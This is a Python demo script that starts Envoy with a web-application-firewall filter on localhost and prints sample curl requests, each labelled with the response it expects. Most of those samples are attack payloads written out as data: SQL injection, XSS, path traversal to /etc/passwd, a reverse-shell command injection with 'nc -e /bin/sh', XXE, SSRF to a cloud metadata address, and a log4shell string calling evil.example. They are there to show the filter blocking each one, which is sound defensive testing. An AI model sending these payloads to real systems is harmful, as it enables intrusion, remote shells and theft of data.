"""`make run`: Envoy with the filter on this machine, an application behind it, and requests to try."""

import pathlib
import signal
import socket
import sys
import threading

import yaml

from harness import HOST, MODULE, ROOT, Problem
from harness.binaries import one_to_run
from harness.bootstrap import Listener
from harness.envoy import Envoy, StartFailed, require_module
from harness.upstream import Upstream

PORT, ORIGIN_PORT, ADMIN_PORT = 10000, 10001, 9901
FOLDER = ROOT / "target" / "run"
HERE = pathlib.Path(__file__).parent

MAIN, ORIGIN = f"http://{HOST}:{PORT}", f"http://{HOST}:{ORIGIN_PORT}"
SUGGESTIONS = [
    ("harmless, passes: 200 and what the application got", f"curl '{MAIN}/tickets?artist=Guns+N%27+Roses&seats=2'"),
    ("sqli: 403", f"curl -i '{MAIN}/tickets?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--'"),
    ("xss: 403", f"curl -i '{MAIN}/search?q=%3Cscript%3Ealert(1)%3C/script%3E'"),
    ("path-traversal: 403", f"curl -i --path-as-is '{MAIN}/static/../../../../etc/passwd'"),
    ("command-injection, in a form: 403", f"curl -i '{MAIN}/ping' --data-urlencode 'host=;nc -e /bin/sh 203.0.113.9 4444'"),
    ("ldap-injection: 403", f"curl -i '{MAIN}/login?user=*)(uid=*))(%7C(uid=*'"),
    ("xxe, in a body: 403", f"""curl -i '{MAIN}/import' -H 'content-type: application/xml' -d '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///c:/secret.txt">]><a>&x;</a>'"""),
    ("ssrf, in JSON: 403", f"""curl -i '{MAIN}/fetch' -H 'content-type: application/json' -d '{{"url":"http://169.254.169.254/latest/meta-data/"}}'"""),
    ("log4shell, in a header: 403", f"curl -i '{MAIN}/' -H 'X-Api-Version: ${{jndi:ldap://evil.example/a}}'"),
    ("header-injection: 403", f"curl -i '{MAIN}/go?to=home%0d%0aSet-Cookie:%20session=1'"),
    ("bot-scanner: 403", f"curl -i '{MAIN}/' -A 'sqlmap/1.8#stable (https://sqlmap.org)'"),
    ("a limit of 1 a second and 3 at once: 200 200 200, then 429 with Retry-After", f"for i in 1 2 3 4 5; do curl -s -o /dev/null -w '%{{http_code}} %header{{retry-after}}\\n' '{MAIN}/api/limited'; done"),
    ("the origin check, without the secret: 403", f"curl -i '{ORIGIN}/'"),
    ("with it: 200, and the application never sees the header", f"curl '{ORIGIN}/' -H 'X-Origin-Verify: demo-secret'"),
    ("exempt from it: 200", f"curl '{ORIGIN}/healthz'"),
]  # fmt: skip


def main(words):
    require_module(MODULE)
    main_config = read_config(words[0] if words else HERE / "demo.yaml")
    listeners = {
        "main": Listener(main_config, port=PORT),
        "origin": Listener(read_config(HERE / "demo-origin.yaml"), port=ORIGIN_PORT),
    }
    for port in (PORT, ORIGIN_PORT, ADMIN_PORT):
        require_free(port)
    binary = one_to_run()

    over = threading.Event()
    for name in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(name, lambda *_: over.set())  # the finally below does the work
    with Upstream() as upstream:
        envoy = Envoy(binary, listeners, upstream.port, admin_port=ADMIN_PORT, folder=FOLDER)
        try:
            envoy.start()
            print_welcome(binary, envoy)
            with open(FOLDER / "envoy.log", encoding="utf-8", errors="replace") as log:
                while envoy.is_running() and not over.wait(0.2):
                    show_new(log)
            if not envoy.is_running():
                raise Problem(f"Envoy ended by itself: see {(FOLDER / 'envoy.log').relative_to(ROOT)}")
        except StartFailed as failure:
            raise Problem(str(failure)) from None
        finally:
            envoy.stop()
    print("\nstopped; nothing is left running")


def read_config(path):
    try:
        with open(path, encoding="utf-8") as file:
            return yaml.safe_load(file) or {}
    except (OSError, yaml.YAMLError) as error:
        raise Problem(f"{path} cannot be read: {error}") from None


def require_free(port):
    with socket.socket() as probe:
        probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            probe.bind((HOST, port))
        except OSError:
            raise Problem(
                f"port {port} is in use: end what listens there ('ss -ltnp sport = :{port}' names it) and run this again"
            ) from None


def show_new(log):
    """Prints the warnings of the filter, and Envoy's errors, that came since the last call."""
    for line in log:
        if line.startswith(("[warning][wasm]", "[error]", "[critical]")):
            text = line.rstrip("\n").split("] ", 1)[-1]
            print("".join(c if c.isprintable() else "?" for c in text), flush=True)


def print_welcome(binary, envoy):
    print(f"\nready: {binary.label} with backstop on {MAIN} (admin http://{HOST}:{ADMIN_PORT}), after {envoy.ready_ms:.0f} ms\n")
    for expectation, command in SUGGESTIONS:
        print(f"  # {expectation}\n  {command}\n")
    print(f"Envoy's log: {(FOLDER / 'envoy.log').relative_to(ROOT)}. Each refusal shows here as it happens; Ctrl-C ends all.\n", flush=True)


if __name__ == "__main__":
    try:
        main(sys.argv[1:])
    except Problem as problem:
        sys.exit(f"run: {problem}")
